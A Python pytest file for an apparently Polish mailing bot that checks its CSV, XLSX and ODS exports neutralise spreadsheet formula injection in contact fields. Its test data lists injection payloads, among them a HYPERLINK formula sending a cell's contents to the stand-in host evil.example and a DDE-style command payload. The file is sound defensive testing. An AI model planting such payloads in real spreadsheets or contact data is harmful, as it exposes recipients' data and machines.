"""What people open in a spreadsheet: whatever contacts are called, the lists hold text and no formula."""

import csv
import io
import zipfile
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from mailbot.book.sheet import TRIGGERS
from mailbot.domain.contacts import Address
from tests.stories.stage import Stage, client

FORMULAS = (
    "=cmd()",
    '=HYPERLINK("http://evil.example/?"&A1,"Oferta")',
    "=1+1|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '"=1"',
    "' =1",
    "+48600100200",
)


def cells(name: str, content: bytes) -> Iterator[tuple[str, str]]:
    """The text of each cell and its type, ``s`` where nothing says that it is text."""
    if name.endswith(".xlsx"):
        for sheet in load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                yield from ((str(cell.value), str(cell.data_type)) for cell in row if cell.value is not None)
    elif name.endswith(".csv"):
        text = io.StringIO(content.decode("utf-8-sig"), newline="")
        yield from ((cell, "s") for row in csv.reader(text) for cell in row)
    elif name.endswith(".ods"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert b"table:formula" not in archive.read("content.xml")


@pytest.fixture
def told(stage: Stage) -> list[tuple[str, bytes]]:
    """Every file that the bot sends in a campaign whose recipients are called like formulas, and all exports."""
    columns = ("company", "first_name", "last_name", "own")
    stage.know(
        client(
            1_000 + 100 * nth + place,
            **{column: (("Uwagi", value),) if column == "own" else value},
            groups=("Dziwni",),
            person_email=(Address(f"a{nth}.{place}@dziwni.example"),),
            person_phone=value,
            is_default=False,
        )
        for place, value in enumerate(FORMULAS)
        for nth, column in enumerate(columns)
    )
    summary = stage.writes("Zmiana", "Odbiorcy: Dziwni\nAdresy: wszyscy\n\nDzień dobry!\n")
    stage.replies(summary, "TAK")
    for form in ("csv", "xlsx", "ods"):
        stage.writes(f"EXPORT {form}", "")
    assert len(stage.customers()) == len(FORMULAS) * len(columns)
    return [(name or "", content) for mail in stage.inbox() for name, content in mail.attachments]


def test_no_cell_of_a_summary_a_report_or_an_export_begins_like_a_formula(told: list[tuple[str, bytes]]) -> None:
    found = [(name, *cell) for name, content in told for cell in cells(name, content)]
    assert {name.rpartition(".")[2] for name, *_ in found} == {"xlsx", "csv"}
    assert {kind for _, _, kind in found} <= {"s", "n"}
    assert not [cell for cell in found if cell[1].startswith(TRIGGERS) and cell[1] != "+48600100200"]
    assert {name.rpartition(".")[2] for name, cell, _ in found if cell == "+48600100200"} == {"xlsx"}  # a cell of text
    assert {name.rpartition(".")[2] for name, _ in told} >= {"ods"}
